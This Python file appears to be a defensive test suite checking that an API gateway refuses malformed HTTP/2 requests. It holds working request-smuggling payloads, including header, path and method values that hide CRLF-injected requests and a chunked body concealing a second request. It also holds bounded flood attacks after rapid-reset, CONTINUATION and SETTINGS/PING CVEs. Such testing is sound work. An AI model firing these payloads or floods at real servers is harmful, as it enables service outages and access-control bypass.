"""HTTP/2 that HTTP/1.1 cannot say, or that costs the server more than the client."""

from __future__ import annotations

import contextlib
import ssl
from collections.abc import Callable

from tests.attack import h2
from tests.attack.model import Attack, NotTried, Verdict
from tests.attack.position import Position

Headers = list[tuple[str, str]]


def start(p: Position, path: str = "/v1/models", method: str = "GET", key: bool = True) -> Headers:
    pseudo = [(":method", method), (":scheme", "https"), (":authority", p.host), (":path", path)]
    return [*pseudo, ("authorization", f"Bearer {p.user.api_key}")] if key else pseudo


def connect(position: Position) -> ssl.SSLSocket:
    connection = position.connect(alpn="h2")
    if connection.selected_alpn_protocol() != "h2":
        connection.close()
        raise NotTried("the gateway speaks no HTTP/2")
    return connection


def ask(position: Position, headers: Headers, body: bytes | None = None) -> h2.Seen:
    flags = h2.END_HEADERS | (0 if body is not None else h2.END_STREAM)
    data = h2.frame(h2.HEADERS, flags, 1, h2.block(headers))
    if body is not None:
        data += h2.frame(h2.DATA, h2.END_STREAM, 1, body)
    with contextlib.closing(connect(position)) as connection:
        return h2.talk(connection, data)


def refused(seen: h2.Seen) -> Verdict:
    status = seen.statuses.get(1, 0)
    return Verdict(400 <= status < 500 or bool(seen.resets) or bool(seen.goaway) or seen.ended, str(seen))


# Name, what is tried, headers, and the body if there is one.
CASES: list[tuple[str, str, Callable[[Position], Headers], bytes | None]] = [
    ("no credential", "GET /v1/models without one", lambda p: start(p, key=False), None),
    ("management", "POST /api/show", lambda p: start(p, "/api/show", "POST"), b'{"model": "a"}'),
    ("encoded path", "POST /%61pi/show", lambda p: start(p, "/%61pi/show", "POST"), b'{"model": "a"}'),
    (
        "line break in a value",
        "a value with CR, LF and a header behind",
        lambda p: [*start(p), ("x-a", "b\r\nTransfer-Encoding: chunked")],
        None,
    ),
    (
        "line break in the path",
        "a path with CR, LF and a request behind",
        lambda p: start(p, "/v1/models HTTP/1.1\r\nHost: a\r\n\r\nGET /api/ps"),
        None,
    ),
    (
        "line break in the method",
        "a method with a whole first line",
        lambda p: start(p, method="GET /v1/models HTTP/1.1\r\nX:"),
        None,
    ),
    (
        "upper case in a name",
        "Authorization in upper case",
        lambda p: [*start(p, key=False), ("Authorization", f"Bearer {p.user.api_key}")],
        None,
    ),
    ("path twice", "an open path, and management", lambda p: [*start(p), (":path", "/api/show")], None),
    ("no path", "a request without :path", lambda p: [h for h in start(p) if h[0] != ":path"], None),
    (
        "length that lies",
        "content-length 5, and a body of 20",
        lambda p: [*start(p, "/v1/embeddings", "POST"), ("content-length", "5")],
        b" " * 20,
    ),
    (
        "two hosts",
        ":authority and another host",
        lambda p: [*start(p), ("host", "a.example"), ("host", "b.example")],
        None,
    ),
    ("colon in a name", "a name with a colon", lambda p: [*start(p), ("transfer-encoding:chunked\r\nx", "b")], None),
]


def case(headers: Callable[[Position], Headers], body: bytes | None) -> Callable[[Position], Verdict]:
    return lambda position: refused(ask(position, headers(position), body))


def transfer_encoding(position: Position) -> Verdict:
    """RFC 9113 wants it refused; passed over it does no harm, handed on to HTTP/1.1 it would."""
    body = b"0\r\n\r\nGET /api/tags HTTP/1.1\r\nHost: a\r\n\r\n"
    seen = ask(position, [*start(position, "/v1/embeddings", "POST"), ("transfer-encoding", "chunked")], body)
    return refused(seen)


def bystander_served(position: Position, seen: str) -> Verdict:
    seconds = position.served()
    return Verdict(seconds < position.bounds.patience / 2, f"{seen}; a bystander served in {seconds:.2f} s")


def rapid_reset(position: Position) -> Verdict:
    """CVE-2023-44487, with a bounded number of streams."""
    data = b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(start(position, "/healthz", key=False)))
        + h2.frame(h2.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
        for stream in range(1, 2 * position.bounds.requests * 10, 2)
    )
    with contextlib.closing(connect(position)) as connection:
        seen = h2.talk(connection, data, streams=10**6, patience=min(position.bounds.patience, 3))
        verdict = bystander_served(position, str(seen))
    ended = seen.goaway is not None or seen.ended
    return Verdict(verdict.held and ended, verdict.seen + ("" if ended else ", the connection goes on"))


def continuations(position: Position) -> Verdict:
    """CVE-2024-24549 and its kin: headers that never end."""
    pieces = [h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(start(position)))]
    pieces += [h2.frame(h2.CONTINUATION, 0, 1, h2.block([("x-a", "b" * 4000)]))] * 300
    with contextlib.closing(connect(position)) as connection:
        seen = h2.talk(connection, b"".join(pieces), patience=min(position.bounds.patience, 3))
    verdict = bystander_served(position, str(seen))
    return Verdict(verdict.held and refused(seen).held, verdict.seen)


def settings(position: Position) -> Verdict:
    """CVE-2019-9515: each SETTINGS wants an acknowledgement.

    nginx ends it at 10,000 answers that wait, which the kernel's buffers may take off it, or at 8 MiB without a body.
    """
    data = (h2.frame(h2.SETTINGS, 0, 0, b"\0\3\0\0\0\x64") + h2.frame(h2.PING, 0, 0, b"attacker")) * 300_000
    with contextlib.closing(connect(position)) as connection:
        seen = h2.talk(connection, data, patience=min(position.bounds.patience, 3))
    verdict = bystander_served(position, str(seen))
    ended = seen.goaway is not None or seen.ended
    return Verdict(verdict.held and ended, verdict.seen + ("" if ended else ", the connection goes on"))


def many_streams(position: Position) -> Verdict:
    """One connection must not pass the user's limits by its streams."""
    count = position.bounds.requests
    data = b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(start(position)))
        for stream in range(1, 2 * count, 2)
    )
    with contextlib.closing(connect(position)) as connection:
        seen = h2.talk(connection, data, streams=count, patience=position.bounds.patience)
    statuses = list(seen.statuses.values())
    refusals = statuses.count(429) + len(seen.resets)
    return Verdict(
        refusals > 0, f"{statuses.count(200)} times 200, {statuses.count(429)} times 429, {len(seen.resets)} reset"
    )


ATTACKS = [
    *(
        Attack("HTTP/2", f"HTTP/2: {name}", tries, "4xx, a reset, or the end", case(headers, body))
        for name, tries, headers, body in CASES
    ),
    Attack(
        "HTTP/2",
        "HTTP/2: transfer-encoding",
        "a header that HTTP/2 does not have",
        "4xx, a reset, or the end",
        transfer_encoding,
    ),
    Attack(
        "HTTP/2",
        "HTTP/2: rapid reset",
        "thousands of streams, each reset at once",
        "the connection ends, others are served",
        rapid_reset,
    ),
    Attack("HTTP/2", "HTTP/2: endless headers", "1.2 MB of CONTINUATION", "refused, others are served", continuations),
    Attack(
        "HTTP/2",
        "HTTP/2: settings and pings",
        "up to 600 000 frames that want an answer",
        "the connection ends, others are served",
        settings,
    ),
    Attack(
        "HTTP/2",
        "HTTP/2: streams over the limit",
        "as many requests at once as one connection bears",
        "some are refused",
        many_streams,
    ),
]
